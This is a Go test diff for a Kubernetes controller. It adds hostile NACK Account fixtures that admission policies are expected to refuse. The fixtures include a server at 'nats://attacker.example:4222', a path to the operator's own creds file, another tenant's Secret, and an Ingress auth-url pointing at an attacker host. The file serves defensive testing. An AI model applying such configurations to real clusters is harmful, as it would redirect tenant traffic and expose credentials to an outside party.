@@ -3,6 +3,7 @@ package controller
 import (
 	"context"
 	"maps"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -64,7 +65,9 @@ func TestTenantObjectShapesHoldEveryWriter(t *testing.T) {
 					return c.Create(ctx, u.DeepCopy(), client.DryRunAll)
 				})
 			}
-			for what, obj := range hostileStreamsAndIngresses(ns, code, devFenceDigest()) {
+			hostile := hostileStreamsAndIngresses(ns, code, devFenceDigest())
+			maps.Copy(hostile, hostileNACKAccounts(ns))
+			for what, obj := range hostile {
 				err := untilFenced(10*time.Second, func() error { return c.Create(ctx, obj.DeepCopy(), client.DryRunAll) })
 				if !fenced(err) {
 					t.Errorf("%s: want an admission policy to refuse, got %v", what, err)
@@ -83,26 +86,65 @@ func TestTenantObjectShapesHoldEveryWriter(t *testing.T) {
 	}
 }
 
-// renderedStreamsAndIngresses are the Streams and Ingresses of the dev environment's
-// bundle of a tenant of code, for every tier.
+// renderedStreamsAndIngresses are the Streams, NACK Accounts and Ingresses of the dev
+// environment's bundle of a tenant of code, for every tier, with and without
+// natsAccounts (its Streams then name its NACK Account).
 func renderedStreamsAndIngresses(t *testing.T, code string) []*unstructured.Unstructured {
 	t.Helper()
-	r := testRenderer(t)
 	var out []*unstructured.Unstructured
-	for _, tier := range []evav1.Tier{evav1.TierStarter, evav1.TierCustomer, evav1.TierEnterprise, evav1.TierPlatform} {
-		tn := fenceTenant(code)
-		tn.Spec.Tier = tier
-		b, err := r.Bundle(tn)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, u := range b.Unstructured() {
-			if u.GetKind() == "Stream" || u.GetKind() == "Ingress" {
-				out = append(out, u)
+	for _, accounts := range []bool{false, true} {
+		r := testRenderer(t)
+		r.Env.Settings.NATSAccounts = accounts
+		for _, tier := range []evav1.Tier{evav1.TierStarter, evav1.TierCustomer, evav1.TierEnterprise, evav1.TierPlatform} {
+			tn := fenceTenant(code)
+			tn.Spec.Tier = tier
+			b, err := r.Bundle(tn)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, u := range b.Unstructured() {
+				if u.GetKind() == "Stream" || u.GetKind() == "Ingress" || u.GetKind() == "Account" {
+					out = append(out, u)
+				}
 			}
 		}
 	}
+	if !slices.ContainsFunc(out, func(u *unstructured.Unstructured) bool { return u.GetKind() == "Account" }) {
+		t.Fatal("natsAccounts rendered no NACK Account")
+	}
 	return out
+}
+
+// hostileNACKAccounts are NACK Accounts in the namespace ns that would make the tenant's
+// Streams with other credentials or on other servers than its own.
+func hostileNACKAccounts(ns string) map[string]*unstructured.Unstructured {
+	account := func(name string, spec map[string]any) *unstructured.Unstructured {
+		return &unstructured.Unstructured{Object: map[string]any{"apiVersion": "jetstream.nats.io/v1beta2", "kind": "Account",
+			"metadata": map[string]any{"namespace": ns, "name": name}, "spec": spec}}
+	}
+	own := func() map[string]any {
+		return map[string]any{"secret": map[string]any{"name": tenant.NATSCredsSecret}, "file": tenant.NATSCredsKey}
+	}
+	with := func(k string, v any) map[string]any { return map[string]any{"creds": own(), k: v} }
+	credsOf := func(secret, file string) map[string]any {
+		c := map[string]any{"file": file}
+		if secret != "" {
+			c["secret"] = map[string]any{"name": secret}
+		}
+		return map[string]any{"creds": c}
+	}
+	return map[string]*unstructured.Unstructured{
+		"a NACK Account of another name":            account("shared", map[string]any{"creds": own()}),
+		"a NACK Account on other servers":           account(tenant.NATSAccountObject, with("servers", []any{"nats://attacker.example:4222"})),
+		"a NACK Account with NACK's own creds file": account(tenant.NATSAccountObject, credsOf("", "/etc/nack/creds/nack.creds")),
+		"a NACK Account with another Secret":        account(tenant.NATSAccountObject, credsOf("crm-database", tenant.NATSCredsKey)),
+		"a NACK Account with another key":           account(tenant.NATSAccountObject, credsOf(tenant.NATSCredsSecret, "other.creds")),
+		"a NACK Account with a token":               account(tenant.NATSAccountObject, with("token", map[string]any{"token": "t", "secret": map[string]any{"name": "x"}})),
+		"a NACK Account with a user":                account(tenant.NATSAccountObject, with("user", map[string]any{"user": "u", "password": "p", "secret": map[string]any{"name": "x"}})),
+		"a NACK Account with an nkey":               account(tenant.NATSAccountObject, with("nkey", map[string]any{"seed": "s", "secret": map[string]any{"name": "x"}})),
+		"a NACK Account with a TLS identity":        account(tenant.NATSAccountObject, with("tls", map[string]any{"ca": "/etc/nack/ca.pem"})),
+		"a NACK Account without credentials":        account(tenant.NATSAccountObject, map[string]any{}),
+	}
 }
 
 // hostileStreamsAndIngresses are Streams and Ingresses in the namespace ns of the tenant
@@ -154,6 +196,7 @@ func hostileStreamsAndIngresses(ns, code, fence string) map[string]*unstructured
 		"a sealed Stream":                                    stream("eva-"+code+"-x", own, map[string]any{"sealed": true}),
 		"a Stream with any message size":                     stream("eva-"+code+"-x", own, map[string]any{"maxMsgSize": int64(1) << 30}),
 		"a Stream with a consumer limit of its own":          stream("eva-"+code+"-x", own, map[string]any{"maxConsumers": int64(100000)}),
+		"a Stream naming another NACK Account":               stream("eva-"+code+"-x", own, map[string]any{"account": "shared"}),
 		"an Ingress aliasing another tenant's host":          ingress(host, "nginx", map[string]any{"nginx.ingress.kubernetes.io/server-alias": "globex.dev.eva.example.com"}),
 		"an Ingress authenticating elsewhere":                ingress(host, "nginx", map[string]any{"nginx.ingress.kubernetes.io/auth-url": "http://attacker.example"}),
 		"an Ingress with a configuration snippet":            ingress(host, "nginx", map[string]any{"nginx.ingress.kubernetes.io/configuration-snippet": "return 200;"}),
